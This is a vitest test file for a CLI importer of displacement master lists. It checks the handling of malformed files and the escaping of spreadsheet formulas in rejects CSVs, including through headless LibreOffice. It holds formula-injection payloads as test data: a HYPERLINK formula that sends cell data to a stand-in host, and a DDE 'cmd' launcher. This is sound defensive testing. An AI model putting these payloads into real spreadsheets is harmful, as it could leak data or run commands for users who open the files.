import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { loadReferenceData, type Db } from '@crc/db';
import { createTestDatabase, TEST_DATABASE_KIND, type TestDatabase } from '@crc/db/testing';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli, type CliIo } from '../cli/run-cli';
import { MALFORMED_FILES } from './malformed-files.test-data';

let testDb: TestDatabase;
let db: Db;
let dir: string;

beforeAll(async () => {
  testDb = await createTestDatabase();
  db = await testDb.open();
  await loadReferenceData(db.prisma);
  dir = await mkdtemp(join(tmpdir(), 'crc-dtm-malformed-'));
});
afterAll(async () => {
  await db?.close();
  await testDb?.drop();
  await rm(dir, { recursive: true, force: true });
});

function io(): CliIo & { err: () => string } {
  let err = '';
  return {
    stdout: { write: () => true, isTTY: false },
    stderr: {
      write: (text: string) => {
        err += text;
        return true;
      },
      isTTY: false,
    },
    env: {},
    openDb: async () => ({ ...db, close: async () => undefined }),
    err: () => err,
  };
}

describe(`malformed master lists (database: ${TEST_DATABASE_KIND})`, () => {
  for (const file of MALFORMED_FILES) {
    it(`${file.name}: ${file.what} -> exit ${file.exit}, no half-written batch`, async () => {
      // Each file into an empty table, so its rows count as inserted.
      await db.prisma.displacementFigure.deleteMany();
      const path = join(dir, file.name);
      await writeFile(path, file.bytes);
      const cli = io();
      const code = await runCli(['import', path, '--date', '2022-03-31', ...(file.args ?? [])], cli);
      expect(code, cli.err()).toBe(file.exit);

      const batches = await db.prisma.importBatch.findMany({ where: { fileName: file.name } });
      expect(batches).toHaveLength(1);
      const [batch] = batches;
      expect(batch?.status).not.toBe('running');
      const figures = await db.prisma.displacementFigure.count({
        where: { sourceRef: { startsWith: `${file.name}#` } },
      });
      if (file.exit === 3) {
        // Refused as a whole: a failed batch records the attempt, nothing else was written.
        expect(batch).toMatchObject({ status: 'failed', rowsInserted: 0, rowsUpdated: 0 });
        expect(figures).toBe(0);
        expect(cli.err()).toMatch(/source error/);
      } else {
        expect(batch?.status).toBe(file.exit === 0 ? 'completed' : 'completed_with_rejections');
        expect(figures).toBe(file.written);
        expect(batch?.rowsInserted).toBe(file.written);
        if (file.stored) {
          const figure = await db.prisma.displacementFigure.findFirstOrThrow({
            where: { locationKey: file.stored.locationKey },
          });
          expect(figure.locationName).toBe(file.stored.locationName);
        }
      }
    });
  }

  it('names the row and the encoding of invalid bytes, and the row and column of a null byte', async () => {
    const invalid = await readFile(join(dir, 'invalid-utf8.rejects.csv'), 'utf8');
    expect(invalid).toMatch(
      /"3","Governorate",(?:""|),"contains bytes that are not valid utf-8 \(if the file was saved by an Arabic Excel, try --encoding windows-1256\)"/,
    );
    const nul = await readFile(join(dir, 'null-byte.rejects.csv'), 'utf8');
    expect(nul).toMatch(/"3","Location",(?:""|),"contains a null byte"/);
  });

  it('writes a rejects file in which no cell starts like a formula, and which imports again', async () => {
    const rejects = await readFile(join(dir, 'formulas.rejects.csv'), 'utf8');
    for (const cell of rejects.replace(/^\ufeff/, '').matchAll(/(?:^|,)"((?:[^"]|"")*)"/gm)) {
      expect(cell[1], cell[1]).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(rejects).toContain(`"'=HYPERLINK(""http://example.invalid/?leak=""&A1,""click"")"`);
    expect(rejects).toContain(`"'+cmd|' /C calc'!A0"`);
    expect(rejects).toContain(`"'\t=1+1"`);
    // The rejects file is an importable master list: its rows are read as the original's were.
    const cli = io();
    expect(
      await runCli(['import', join(dir, 'formulas.rejects.csv'), '--rejects', join(dir, 'again.rejects.csv')], cli),
    ).toBe(1);
    const again = await readFile(join(dir, 'again.rejects.csv'), 'utf8');
    expect(again).toContain('no governorate named ""=HYPERLINK(');
    expect(again.match(/\n"\d+",/g)).toHaveLength(4);
  });

  it('a rejects file opened by LibreOffice (headless) runs no formula', async () => {
    // libreoffice-calc-nogui is in .ci/run's APT_NEEDS: without soffice this test fails, it does not skip.
    const profile = join(dir, 'lo-profile');
    await promisify(execFile)(
      'soffice',
      [
        `-env:UserInstallation=file://${profile}`,
        '--headless',
        '--convert-to',
        'xlsx',
        '--outdir',
        dir,
        join(dir, 'formulas.rejects.csv'),
      ],
      { timeout: 120_000 },
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(join(dir, 'formulas.rejects.xlsx'));
    const sheet = workbook.worksheets[0];
    const cells: { formula: unknown; text: string }[] = [];
    sheet?.eachRow((row) =>
      row.eachCell((cell) =>
        cells.push({ formula: (cell.value as { formula?: unknown } | null)?.formula, text: cell.text }),
      ),
    );
    expect(cells.length).toBeGreaterThan(20);
    expect(cells.filter((cell) => cell.formula !== undefined)).toEqual([]);
    expect(cells.map((cell) => cell.text)).toEqual(
      expect.arrayContaining([
        expect.stringContaining('=HYPERLINK("http://example.invalid'),
        expect.stringContaining("+cmd|' /C calc'!A0"),
      ]),
    );
    // Nothing evaluated: no cell holds what =1+1 or -2+3 would compute.
    expect(cells.map((cell) => cell.text)).not.toContain('2');
    expect(cells.map((cell) => cell.text)).not.toContain('1');
  }, 180_000);
});
